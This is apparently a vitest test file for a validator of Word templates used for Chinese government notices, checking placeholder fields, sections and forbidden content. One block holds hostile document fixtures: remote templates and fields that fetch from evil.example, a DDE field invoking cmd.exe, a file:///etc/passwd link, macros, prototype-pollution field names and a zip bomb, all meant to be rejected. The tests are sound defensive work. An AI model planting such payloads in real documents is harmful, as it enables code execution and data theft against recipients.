import { describe, expect, it } from 'vitest';
import { makeZip } from '../read/made/office.fixture.ts';
import { checkTemplate } from './check.ts';
import { TEMPLATE_KINDS } from './fields.ts';
import { startTemplate } from './start.ts';
import { edited, OFFICE, partsOf, run, withParagraph, withText } from './template.fixture.ts';

type Kind = Parameters<typeof checkTemplate>[1];

/** Each fault as its code and what it names. */
const said = (bytes: Uint8Array, kind: Kind = 'D14') =>
  checkTemplate(bytes, kind).map(({ code, facts = {} }) => [code, ...Object.values(facts)].join(' '));
const codes = (bytes: Uint8Array, kind: Kind = 'D14') => checkTemplate(bytes, kind).map(({ code }) => code);

it.each(TEMPLATE_KINDS)('the starting template of %s can be used as it is', (kind) => {
  expect(checkTemplate(startTemplate(kind, OFFICE), kind)).toEqual([]);
});

it('every notice that is issued has a template', () => {
  const issued = Array.from({ length: 24 }, (_, i) => `D${String(i + 2).padStart(2, '0')}`);
  expect(TEMPLATE_KINDS).toEqual(expect.arrayContaining(issued));
});

describe('fields', () => {
  it('says every fault at once, with field and place', () => {
    const file = withText('D14', (document) =>
      document.replace('{主送}', '{收件人}').replace('{救济途径}', '救济见{救济途径}').replace('{日期}', '｛日期｝'),
    );
    expect(said(file)).toEqual([
      'template.wide-braces ｛日期｝ 正文第15段“｛日期｝”',
      'template.unknown-field {收件人} 正文第9段“{收件人}：” 标题、文号、主送、正文、救济途径、机关、日期、申请编号',
      'template.not-alone {救济途径} 正文第11段“救济见{救济途径}”',
      'template.missing-field {主送}',
      'template.missing-field {日期}',
    ]);
  });

  it.each<[why: string, file: Uint8Array, codes: string[]]>([
    ['a tag that Word cut over runs', withText('D14', (d) => d.replace('{文号}', '{文</w:t></w:r><w:r><w:t>号}')), []],
    ['blanks inside the braces', withText('D14', (d) => d.replace('{文号}', '{ 文号 }')), []],
    ['text in place of the title', withText('D14', (d) => d.replace('政府信息不予公开告知书', '答复')), []],
    ['a brace without its other', withParagraph('D14', run('{标题')), ['template.stray-brace']],
    [
      'braces over two paragraphs',
      withParagraph('D14', `${run('{标')}</w:p><w:p>${run('题}')}`),
      ['template.stray-brace', 'template.stray-brace'],
    ],
    ['a field of another kind', withParagraph('D14', run('{二维码}')), ['template.not-of-this-kind']],
    ['an option of the engine', withParagraph('D14', run('{标题 [a: 1]}')), ['template.unknown-field']],
    [
      'a way into the program',
      withParagraph('D14', run('{constructor}{__proto__}')),
      ['template.unknown-field', 'template.unknown-field'],
    ],
    ['the body twice', withParagraph('D14', run('{正文}')), ['template.twice']],
    [
      'the body beside a picture',
      withText('D14', (d) => d.replace('{正文}</w:t>', '{正文}</w:t><w:drawing/>')),
      ['template.not-alone'],
    ],
    [
      'a paragraph of thousands of runs',
      withText('D14', (d) => d.replace('{正文}</w:t></w:r>', `{正文}</w:t></w:r>${'<w:r/>'.repeat(300)}`)),
      ['template.not-alone'],
    ],
    [
      'a tag in a text box',
      withParagraph('D14', `<w:r><w:pict><w:txbxContent><w:p>${run('{标题}')}</w:p></w:txbxContent></w:pict></w:r>`),
      ['template.in-text-box'],
    ],
    [
      'a tag in the description of a picture',
      withParagraph('D14', '<w:r><w:drawing><wp:docPr descr="{标题}"/></w:drawing></w:r>'),
      ['template.in-picture'],
    ],
    [
      'text in a footer',
      edited('D14', (p) => {
        p['word/default.xml'] = p['word/default.xml']!.replace('<w:p>', `<w:p>${run('{文号}')}`);
      }),
      [],
    ],
    [
      'the body in a footer',
      edited('D14', (p) => {
        p['word/default.xml'] = p['word/default.xml']!.replace('</w:ftr>', `<w:p>${run('{正文}')}</w:p></w:ftr>`);
      }),
      ['template.only-in-body', 'template.twice'],
    ],
    ['hundreds of tags', withParagraph('D14', run('{标题}'.repeat(200))), ['template.too-many-tags']],
  ])('%s', (_, file, expected) => {
    expect(codes(file)).toEqual(expected);
  });

  it('names the cell of a table', () => {
    const cell = (text: string) => `<w:tc><w:p>${run(text)}</w:p></w:tc>`;
    const table = `<w:tbl><w:tr>${cell('一')}${cell('二')}</w:tr><w:tr>${cell('三')}${cell('{甲}')}</w:tr></w:tbl>`;
    const file = withText('D14', (document) => document.replace('<w:body>', `<w:body>${table}`));
    expect(said(file)[0]).toContain('{甲} 正文第1个表格第2行第2格“{甲}”');
  });
});

describe('sections', () => {
  const held = ['{#救济途径}', '救济途径', '{/救济途径}', '{#回执}', '{回执}', '{/回执}'];
  const section = (...texts: string[]) => withParagraph('D24', texts.map(run).join('</w:p><w:p>'));
  it.each<[why: string, file: Uint8Array, codes: string[]]>([
    ['around what goes with a field', section('{#文号}', '文号：{文号}', '{/文号}'), []],
    ['around a field of other kinds', section(...held), []],
    ['of a field that nothing has', section('{#甲}', '{/甲}'), ['template.unknown-field', 'template.unknown-field']],
    ['of a picture, in one line', section('{#二维码}{/二维码}'), ['template.not-alone', 'template.not-alone']],
    ['not closed', section('{#文号}', '文号'), ['template.not-closed']],
    ['not opened', section('文号', '{/文号}'), ['template.not-opened']],
    ['closed by another', section('{#文号}', '{/标题}', '{/文号}'), ['template.not-opened']],
    ['one in another', section('{#文号}', '{#标题}', '{/标题}', '{/文号}'), ['template.nested']],
    ['in the middle of a line', section('见{#文号}', '{/文号}'), ['template.not-alone']],
    [
      'from outside a table into it',
      withText('D24', (d) =>
        d.replace(
          '<w:body>',
          `<w:body><w:p>${run('{#文号}')}</w:p><w:tbl><w:tr><w:tc><w:p>${run('{/文号}')}</w:p></w:tc></w:tr></w:tbl>`,
        ),
      ),
      ['template.apart'],
    ],
  ])('%s', (_, file, expected) => {
    expect(codes(file, 'D24')).toEqual(expected);
  });

  it('a required field that may be gone with the section of another is missing', () => {
    const file = withText('D24', (document) =>
      document.replace(
        /(<w:p>(?:(?!<\/w:p>).)*\{正文\}.*?<\/w:p>)/s,
        `<w:p>${run('{#文号}')}</w:p>$1<w:p>${run('{/文号}')}</w:p>`,
      ),
    );
    expect(said(file, 'D24')).toEqual(['template.missing-field {正文}']);
  });
});

describe('what a template may not hold', () => {
  const rels = 'word/_rels/document.xml.rels';
  const related = (type: string, target: string, more = '') =>
    edited('D14', (parts) => {
      const full = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
      parts[rels] = parts[rels]!.replace(
        '</Relationships>',
        `<Relationship Id="x" Type="${full}" Target="${target}" ${more}/></Relationships>`,
      );
      parts[`word/${target}`] ??= '<x/>';
    });
  const outside = 'TargetMode="External"';
  const coded = (code: string) =>
    withParagraph(
      'D14',
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    );

  it.each<[why: string, file: Uint8Array, codes: string[]]>([
    [
      'macros',
      related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'),
      ['template.macros'],
    ],
    [
      'a name that says macros',
      edited('D14', (p) => {
        p['[Content_Types].xml'] = p['[Content_Types].xml']!.replace(
          'wordprocessingml.document.main',
          'word.document.macroEnabled.main',
        );
      }),
      ['template.macros'],
    ],
    [
      'a template from elsewhere',
      related('attachedTemplate', 'http://evil.example/a.dotm', outside),
      ['template.outside'],
    ],
    ['a picture from elsewhere', related('image', 'http://evil.example/a.png', outside), ['template.outside']],
    ['a link that is no web address', related('hyperlink', 'file:///etc/passwd', outside), ['template.outside']],
    ['a link', related('hyperlink', 'https://www.gov.cn/?a=1&amp;b=2', outside), []],
    ['another document inside', related('aFChunk', 'chunk.html'), ['template.part']],
    ['an embedded object', related('oleObject', 'embeddings/o.bin'), ['template.part']],
    ['a control', related('control', 'activeX/a.xml'), ['template.part']],
    ['comments', related('comments', 'comments.xml'), ['template.comments']],
    ['tracked changes', withParagraph('D14', `<w:ins>${run('新')}</w:ins>`), ['template.tracked']],
    ['a page number', coded(' PAGE \\* MERGEFORMAT '), []],
    ['a field that fetches', coded(' INCLUDETEXT "http://evil.example/a" '), ['template.field-code']],
    ['a field that runs', coded(' dde</w:instrText><w:instrText>auto c:\\\\cmd.exe '), ['template.field-code']],
    [
      'a simple field that fetches',
      withParagraph('D14', '<w:fldSimple w:instr="INCLUDEPICTURE x"/>'),
      ['template.field-code'],
    ],
    ['the day of opening', coded(' DATE '), ['template.field-code']],
    ['a document type', withText('D14', (d) => d.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>')), ['read.broken']],
    ['elements without end', withParagraph('D14', '<w:r/>'.repeat(70_000)), ['template.too-large']],
    ['a part that is cut off', withText('D14', (d) => d.slice(0, -200)), ['read.broken']],
    ['no Word document', makeZip({ 'a.txt': 'a' }), ['template.no-document']],
    ['no container', Buffer.from('PK'), ['read.broken']],
  ])('%s', (_, file, expected) => {
    expect([...new Set(codes(file))]).toEqual(expected);
  });

  it('a bomb is not unpacked beyond the bound, whatever it says of its size', () => {
    const parts = partsOf(startTemplate('D14', OFFICE));
    const bomb = makeZip({ ...parts, 'word/styles.xml': Buffer.alloc(40 * 1024 * 1024, ' ') }, 10);
    expect(said(bomb)).toEqual(['read.unpacks-too-large 16']);
  });
});
